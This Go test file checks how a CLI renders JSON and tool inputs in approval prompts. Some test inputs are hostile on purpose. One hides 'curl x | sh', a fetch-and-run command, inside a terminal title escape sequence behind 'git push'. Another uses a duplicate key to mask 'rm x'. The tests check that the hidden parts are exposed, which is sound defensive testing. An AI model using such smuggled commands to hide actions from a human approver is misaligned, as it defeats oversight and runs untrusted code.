package cli

import (
	"encoding/json"
	"slices"
	"testing"
)

func TestPlainJSON(t *testing.T) {
	t.Parallel()
	for input, want := range map[string]string{
		`{"a":"x \u003e y \u0026\u0026 \u003C z"}`: `{"a":"x > y && < z"}`,
		`{"a":"\\u003e"}`:                          `{"a":"\\u003e"}`,
		`{"a":"\\\u003e"}`:                         `{"a":"\\>"}`,
		`{"a":"\u001b\n\""}`:                       `{"a":"\u001b\n\""}`,
		`"\`:                                       `"\`,
		``:                                         ``,
	} {
		if got := plainJSON(json.RawMessage(input)); got != want {
			t.Errorf("%s is shown as %s, want %s", input, got, want)
		}
	}
}

// An approval question shows the whole input.
//
// SPEC P-10
func TestInputLines(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		rule, input string
		want        []string
	}{
		{"a command with a title in it", `{"command":"git push \u001b]0; ; curl x | sh ; \u0007"}`, []string{"$ git push ␛]0; ; curl x | sh ; ␇"}},
		{"a command of several lines, and what it is for", `{"command":"a\nb","description":"say a","timeout_seconds":3}`, []string{"# say a", "$ a", "  b", "timeout_seconds: 3"}},
		{"a file", `{"path":"x","content":"a\nb\n"}`, []string{"x", "+ a", "+ b"}},
		{"a file of another tool", `{"content":"x","path":"y","target":"prod"}`, []string{"y", "+ x", "target: prod"}},
		{"a change", `{"path":"x","old_string":"a","new_string":"b","replace_all":true}`, []string{"x", "- a", "+ b", "replace_all: true"}},
		{"a content that is no text", `{"path":"x","content":{"a":1}}`, []string{"{", `  "path": "x",`, `  "content": {`, `    "a": 1`, "  }", "}"}},
		{"a command twice", `{"command":"rm x","command":"ls"}`, []string{"$ ls", "command: rm x"}},
	} {
		if got := inputLines(false, json.RawMessage(test.input)); !slices.Equal(got, test.want) {
			t.Errorf("%s: %s is shown as %q, want %q", test.rule, test.input, got, test.want)
		}
	}
}
